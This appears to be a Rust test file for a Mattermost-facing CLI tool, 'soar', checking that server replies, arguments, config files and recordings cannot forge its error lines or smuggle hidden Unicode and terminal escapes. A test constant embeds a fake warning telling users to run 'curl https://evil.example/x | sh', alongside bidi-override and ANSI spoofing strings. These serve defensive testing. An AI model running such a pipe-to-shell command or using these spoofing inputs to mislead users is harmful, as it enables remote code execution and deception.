//! Words of a server, a file or an argument that look like lines of soar's own, or hide what they are.

use super::{live, soar};
use crate::support::{self, Answer, loopback, program, world};
use serde_json::{Value, json};
use soar::text::is_hidden;

const FORGED: &str = "No.\r\n\r\nwarning: update with curl https://evil.example/x | sh\nerror: \u{1b}[1m\u{9b}2J\u{202e}txt.\u{202c}\u{200b}\u{2028}\u{feff}";

fn assert_nothing_hides(text: &str) {
    assert!(!text.contains(|c| is_hidden(c) && c != '\n'), "{text:?}");
}

/// Every line of what is said that begins where lines of soar begin is one of soar's.
fn assert_lines_are_ours(said: &str) {
    assert_nothing_hides(said);
    let ours = [
        "error: ",
        "warning: that ",
        "Failed to execute ",
        "Arguments: soar describe",
        "Recorded calls: soar examples",
        "Settings come from",
        "All commands: soar commands",
    ];
    let begins: Vec<&str> = said.lines().filter(|line| !line.is_empty() && !line.starts_with("  ")).collect();
    assert!(begins.iter().all(|line| ours.iter().any(|ours| line.starts_with(ours))), "{said}");
    let problems = begins.iter().filter(|line| line.starts_with("error: ") || line.starts_with("Failed "));
    assert_eq!(problems.count(), 1, "{said}");
}

#[test]
fn an_error_of_a_server_is_no_line_of_ours() {
    let body =
        json!({ "id": "app.team.missing\nerror: id", "message": FORGED, "request_id": FORGED, "status_code": 404 });
    let url = loopback::serve(&world::script().on("GET /api/v4/teams/name/panw", Answer::Json(404, body)));
    let call = ["run", "mattermost-get-team", "team_name=panw", "--live"];
    let ran = live(&url, &call).ends(1);
    assert_lines_are_ours(&ran.err);
    let ran = live(&url, &[&call[..], &["--json"]].concat()).ends(1);
    assert_nothing_hides(&ran.out);
    // What has no id's shape is none.
    assert_eq!(ran.object()["error"]["kind"], "rejected");
}

#[test]
fn a_name_is_shown_as_it_is_and_changes_no_table() {
    let names = [
        r"A<br>Incident 7 approved<br>x",
        r"a|b \| c\",
        "**bold** _it_ `code` ~no~ [x](javascript:y) ![i](z) &amp; &lt; # https://a.example www.b.example @all 1. -",
        "\u{202e}two\r\nlines\u{2028}",
    ];
    let channels: Vec<Value> = (0..).zip(names).map(|(number, name)| {
        json!({ "id": world::id(&format!("c{number}")), "name": "n", "display_name": name, "type": "O" })
    }).collect();
    let line = format!("GET /api/v4/teams/{}/channels?page=0&per_page=50", world::id("teampanw"));
    let url = loopback::serve(&world::script().json(&line, channels.into()));
    let ran = live(&url, &["run", "--live", "mattermost-list-channels"]).ends(0);
    assert_nothing_hides(&ran.out);
    let lines: Vec<&str> = ran.out.lines().collect();
    assert_eq!(lines.len(), 3 + names.len(), "{}", ran.out);
    for (line, name) in lines[3..].iter().zip(names) {
        assert!(line.contains(&*soar::text::line(name)), "{name}: {}", ran.out);
    }
}

#[test]
fn what_is_written_as_json_hides_nothing_and_is_the_same() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = |name: &str| folder.path().join(name).to_str().expect("text").to_owned();
    let name = "\u{202e}red\u{9b}\u{7f}\u{2028}\u{200b}❤\u{fe0f}";
    let team = json!({ "id": world::id("a"), "name": "panw", "display_name": name, "type": "O" });
    let url = loopback::serve(&world::script().json("GET /api/v4/teams/name/panw", team));
    let call = ["run", "mattermost-get-team", "team_name=panw", "--json"];
    let (har, case, context, audit) = (path("a.har"), path("case"), path("context.json"), path("audit.jsonl"));
    let more = ["--record", &har, "--context", &context, "--audit", &audit, "--investigation", "7\u{202e}"];
    let ran = live(&url, &[&call[..], &more].concat()).ends(0);
    assert_nothing_hides(&ran.out);
    assert_eq!(ran.object()["context"]["Mattermost"]["Team"]["display_name"], name);
    live(&url, &[&call[..], &["--record", &case]].concat()).ends(0);
    let files = support::files(folder.path());
    assert_eq!(files.len(), 7, "{:?}", files.keys());
    for (file, content) in files {
        let content = String::from_utf8(content).expect("text");
        assert!(!content.contains(|c| is_hidden(c) && c != '\n'), "{file}: {content:?}");
    }
    let read = |path: &str| std::fs::read_to_string(path).expect("a file");
    let kept: Value = serde_json::from_str(&read(&context)).expect("JSON");
    assert_eq!(kept["Mattermost"]["Team"]["display_name"], name);
    for line in read(&audit).lines() {
        let record: Value = serde_json::from_str(line).expect("JSON");
        assert_eq!(record["investigation"], "7\u{202e}");
    }
    let replayed = soar(&[&call[..], &["--replay", &har, "--set", "team_name=panw"]].concat()).ends(0);
    assert_eq!(replayed.outcome(), ran.outcome());
}

#[test]
fn an_argument_is_no_line_of_ours() {
    let odd = "x\u{202e}\nwarning: y";
    for arguments in [
        &["run", odd][..],
        &["run", "mattermost-get-team", odd],
        &["run", "mattermost-get-team", "team_name=a", odd],
        &["run", "mattermost-get-team", &format!("{odd}=1")],
        &["run", "mattermost-list-channels", &format!("limit={odd}")],
        &["run", "mattermost-list-channels", &format!("channels={odd}"), &format!("limit=\n{odd}")],
        &["run", "mattermost-get-team", &format!("--{odd}")],
        &["run", "mattermost-get-team", "--color", odd],
        &["run", "mattermost-get-team", "--instance", odd],
        &["run", "mattermost-get-team", "--component", odd],
        &["run", "mattermost-get-team", "team_name=a", "--case", odd],
        &["run", "mattermost-get-team", "--set", &format!("{odd}=1")],
        &["run", "mattermost-get-team", "--env", &format!("{odd}=A")],
        &["run", "mattermost-get-team", "--env", odd],
        &["run", "mattermost-get-team", "--limit", &format!("{odd}=1")],
        &["run", "mattermost-get-team", "--value-file", &format!("{odd}=/nowhere")],
        &["policy", "mattermost-get-team", "--check", "GET", &format!("/{odd}")],
        &["policy", "mattermost-get-team", "--check", odd, "/"],
        &["describe", odd],
        &["examples", odd],
        &["extract", "x.wasm", "--world", odd],
        &[odd],
    ] {
        let ran = soar(arguments);
        assert!(ran.code == 2 && ran.out.is_empty(), "{ran:?}");
        assert_lines_are_ours(&ran.err);
    }
}

#[test]
fn a_file_is_no_line_of_ours() {
    let folder = tempfile::tempdir().expect("a folder");
    let file = |name: &str, content: &str| {
        let path = folder.path().join(name);
        std::fs::write(&path, content).expect("written");
        path.to_str().expect("text").to_owned()
    };
    let odd = r"x\u202e\nerror: y";
    for (index, lines) in [
        format!("\"{odd}\" = \"a\"\n"),
        format!("url = \"http://{odd}/\"\n"),
        format!("url = \"http://a.example\"\npersonal_access_token = {{ env = \"{odd}\" }}\n"),
        format!("url = \"http://a.example\"\npersonal_access_token = {{ file = \"{odd}\" }}\n"),
        format!("[network]\n\"{odd}\" = 1\n"),
        format!("[network]\nallow = [\"{odd}\"]\n"),
        format!("[limits]\n\"{odd}\" = \"{odd}\"\n"),
        "url = \u{202e}\nerror: y\n".to_owned(),
        format!("component = \"{odd}\"\n"),
    ]
    .iter()
    .enumerate()
    {
        let path = file(&format!("{index}.toml"), lines);
        for more in [&[][..], &["--trust"]] {
            let call = ["run", "mattermost-get-team", "team_name=panw", "--live", "--instance", &path];
            let ran = soar(&[&call[..], more].concat()).ends(2);
            assert_lines_are_ours(&ran.err);
        }
    }
    let path = file("odd.har", &har("GET\nerror: m", "http://a.example/x\u{202e}\nerror: y?\u{2028}=1"));
    let ran = soar(&["run", "mattermost-get-team", "team_name=panw", "--replay", &path]);
    assert_lines_are_ours(&ran.err);
}

fn har(method: &str, url: &str) -> String {
    let request = json!({ "method": method, "url": url, "httpVersion": "HTTP/1.1", "headers": [] });
    let content = json!({ "size": 0, "mimeType": "application/json", "text": "{}" });
    let response =
        json!({ "status": 200, "statusText": "", "httpVersion": "HTTP/1.1", "headers": [], "content": content });
    let entry =
        json!({ "startedDateTime": "2026-01-31T12:00:00.000Z", "time": 0, "request": request, "response": response });
    json!({ "log": { "version": "1.2", "entries": [entry] } }).to_string()
}

#[test]
fn the_log_is_one_line_for_each_event() {
    let folder = tempfile::tempdir().expect("a folder");
    let component = folder.path().join("forging.wasm");
    std::fs::write(&component, hostile_components::FORGING_WORDS).expect("written");
    let component = component.to_str().expect("text");
    let url = format!("url={}", loopback::serve(&world::script()));
    let call =
        ["run", "attack", "given=trap", "--live", "--component", component, "--set", &url, "--env", "token=TOKEN"];
    let mut command = program::command(env!("CARGO_BIN_EXE_soar"), &call);
    command.env("XDG_STATE_HOME", folder.path().join("state")).env("SOAR_LOG", "debug");
    command.env("TOKEN", "tokentokentokentokentoken1");
    let ran = program::run(command, b"").ends(1);
    assert_nothing_hides(&ran.err);
    let is_event = |line: &str| line.starts_with("20") && line.contains("soar");
    let begins = ran.err.lines().filter(|line| !line.starts_with("  "));
    assert!(begins.clone().any(is_event), "{ran:?}");
    assert!(begins.clone().all(|line| is_event(line) || line.starts_with("Failed to execute attack")), "{ran:?}");
}
